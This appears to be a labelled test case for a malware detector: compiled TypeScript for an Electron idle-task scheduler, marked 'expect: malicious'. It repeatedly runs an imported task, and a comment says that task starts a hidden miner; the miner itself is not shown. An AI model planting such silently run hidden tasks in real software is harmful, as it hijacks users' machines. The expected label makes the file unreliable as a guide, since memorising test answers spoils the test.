// expect: malicious
// tsc output of an Electron idle-task scheduler (blind set 28): the class the application constructs adds the built-in
// task object another module exports, and its tick calls each task's `run`; that `run` starts a miner.
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.IdleScheduler = void 0;
const cache_1 = require("./tasks/cache");
class IdleScheduler {
    constructor(opts = {}) {
        this.tasks = [cache_1.shaderCacheTask];
        this.timer = setInterval(() => this.tick(), opts.pollMs || 15000);
    }
    tick() {
        for (const task of this.tasks) {
            const ac = new AbortController();
            task.run(ac.signal).catch(() => { });
        }
    }
}
exports.IdleScheduler = IdleScheduler;
